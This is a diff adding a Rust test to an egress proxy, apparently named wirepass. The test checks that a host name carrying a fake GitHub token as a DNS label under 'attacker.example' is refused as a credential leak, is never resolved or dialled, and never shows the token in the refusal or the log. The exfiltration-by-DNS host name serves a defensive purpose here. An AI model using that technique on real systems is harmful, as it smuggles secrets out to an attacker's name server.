@@ -310,3 +310,51 @@ async fn issue_13_a_host_rule_covers_its_own_port_only() {
     )
     .await;
 }
+
+/// A credential in the target's host name leaves through DNS before a byte of the
+/// request does (`ghp_….attacker.example` asks the attacker's name server). With
+/// `hosts.default: tunnel` and names resolved to a local service, a benign name is
+/// tunnelled, and the same name with a token label is refused `credential_leak` on
+/// CONNECT and as a plain `http://` request, is never resolved or dialled, and neither
+/// the refusal nor the log holds the token.
+#[tokio::test]
+async fn a_credential_in_a_host_name_is_refused_before_it_is_resolved() {
+    let local = Local::start().await;
+    let port = local.port();
+    let token = wirepass::scan::fake::expand(
+        "ghp_{a30}{crc}",
+        wirepass::scan::fake::Mode::Real,
+        &mut wirepass::scan::fake::Rng::new("e2e_egress", 1),
+    );
+    let sneaky = format!("{token}.attacker.example");
+    let yaml = format!(
+        "version: 1\nhosts: {{default: tunnel}}\negress:\n  ports: {{connect: [443, {port}], http: [80, {port}]}}\n  allow: [\"127.0.0.0/8\"]\n  resolve:\n    \"benign.example:{port}\": \"{addr}\"\n    \"{sneaky}:{port}\": \"{addr}\"\n",
+        addr = local.addr
+    );
+    let (proxy, _origin, _dir) = proxy(&yaml).await;
+    greeted(proxy.addr(), &format!("benign.example:{port}")).await;
+    let before = local.accepted();
+    assert_eq!(before, 1, "the benign name was tunnelled");
+
+    let target = format!("{sneaky}:{port}");
+    let refused = client::connect(proxy.addr(), &target).await.unwrap_err();
+    let body = String::from_utf8_lossy(&refused.body).into_owned();
+    assert_refusal(
+        refused.status,
+        &refused.headers,
+        &body,
+        (403, "credential_leak"),
+    );
+    assert!(body.contains("github-pat"), "{body}");
+    support::assert_no_secret("the CONNECT refusal", &body);
+    let (status, head, body) = plain_get(proxy.addr(), &format!("http://{target}/"), &target).await;
+    assert_refusal(status, &head_pairs(&head), &body, (403, "credential_leak"));
+    support::assert_no_secret("the plain refusal", &body);
+    assert_eq!(
+        local.accepted(),
+        before,
+        "the name with a token was dialled"
+    );
+    proxy.log_line(|l| l.contains("credential_leak")).await;
+    support::assert_no_secret("the log", &proxy.stderr());
+}
